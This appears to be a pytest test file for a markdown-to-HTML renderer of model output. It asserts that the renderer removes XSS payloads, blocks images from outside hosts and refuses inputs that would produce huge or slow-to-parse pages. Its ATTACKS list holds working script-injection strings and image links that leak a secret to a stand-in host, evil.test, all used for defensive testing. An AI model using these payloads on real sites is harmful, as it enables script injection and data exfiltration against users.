"""Markdown of models as HTML of a page: what is left of attacks, and what would take long."""

import pytest
from page_elements import Elements

from providers.errors import RequestError
from router.api.markdown import MAX_CHARACTERS, render_markdown

PIXEL = "data:image/png;base64,iVBORw0KGgo="
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='/x' onclick=alert(1) hx-get=/x hx-on:click=alert(1)>x</a>",
    "<form action=/logout method=post><button>Sign in</button></form>",
    "<style>*{display:none}</style>",
    "<iframe src=//evil.test></iframe>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](/keys) [x](//evil.test) [x](?a) [x](keys)",
    "[x](<java\tscript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    f'![x" onerror="alert(1)]({PIXEL} "x\\" onload=\\"alert(1)")',
    "![x](https://evil.test/?secret)",
    "[![x](https://evil.test/?secret)](https://evil.test/)",
    '<https://evil.test/?a="onclick=alert(1)">',
    '```"onmouseover=alert(1)\nx\n```',
    "a | b\n--|--\n<td onclick=alert(1)> | <script>",
    "<!-- --!> <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
]


@pytest.mark.parametrize("pictures", [False, True])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_is_left_but_words(attack, pictures):
    for text in (attack, f"a {attack} b", f"- {attack}\n\n> {attack}"):
        rendered = render_markdown(text, pictures=pictures)
        for tag, attributes in Elements(rendered.html).elements:
            assert tag not in {"script", "style", "svg", "iframe", "form", "button", "meta", "math"}
            assert set(attributes) <= {"href", "src", "alt", "title", "target", "rel", "start"}
            assert attributes.get("href", "https://").startswith(("https://", "mailto:"))
            assert attributes.get("src", PIXEL).startswith(PIXEL)


def test_what_is_meant_is_shown():
    text = "# A\n**b** `c<d>`\n\n1. e\n\n| f | g |\n|---|---|\n| h | [i](https://x.test) |"
    text += "\n\n<b>j</b>"
    html = render_markdown(text, pictures=False).html
    elements = Elements(html)
    tags = {tag for tag, _ in elements.elements}
    assert {"h1", "strong", "code", "ol", "li", "table", "th", "td", "a"} <= tags
    assert "c<d>" in elements.text
    assert "[HTML]j[HTML]" in elements.text
    [link] = [attributes for tag, attributes in elements.elements if tag == "a"]
    assert link == {
        "href": "https://x.test",
        "target": "_blank",
        "rel": "noopener noreferrer nofollow",
    }


def test_pictures_are_shown_on_request_and_never_those_of_other_hosts():
    text = f"![mine]({PIXEL}) ![theirs](https://evil.test/a.png)"
    hidden = render_markdown(text, pictures=False)
    assert hidden.hidden_pictures == 1
    assert "img" not in {tag for tag, _ in Elements(hidden.html).elements}
    assert "[picture: mine] [picture: theirs]" in Elements(hidden.html).text
    shown = render_markdown(text, pictures=True)
    assert shown.hidden_pictures == 0
    pictures = [attributes for tag, attributes in Elements(shown.html).elements if tag == "img"]
    assert pictures == [{"src": PIXEL, "alt": "mine"}]


def test_a_short_text_that_becomes_a_large_page_is_refused():
    """Rows of a table that are short get all cells: of 6 kB, these became 5 MB."""

    def table(columns, rows):
        return "|a" * columns + "|\n" + "|-" * columns + "|\n" + "|a|\n" * rows

    for text in (table(500, 1000), table(100, 400), ">" * MAX_CHARACTERS):
        with pytest.raises(RequestError, match="60,000 tags"):
            render_markdown(text, pictures=False)
    assert render_markdown(table(20, 1000), pictures=False).html.count("<td>") == 20_000


def test_texts_that_would_take_long_are_refused():
    """In a parser written in Python, the first of these took 45 seconds."""
    for text in (
        "[" * MAX_CHARACTERS,
        "![" * (MAX_CHARACTERS // 2),
        "**a*" * (MAX_CHARACTERS // 4),
    ):
        render_markdown(text, pictures=True)
    for text in (">" * 20_000, "> " * 300 + "a", "*a " * 300 + "b* " * 300):
        with pytest.raises(RequestError, match="200 deep"):
            render_markdown(text, pictures=False)
    with pytest.raises(RequestError, match="100,000 characters"):
        render_markdown("a" * (MAX_CHARACTERS + 1), pictures=False)
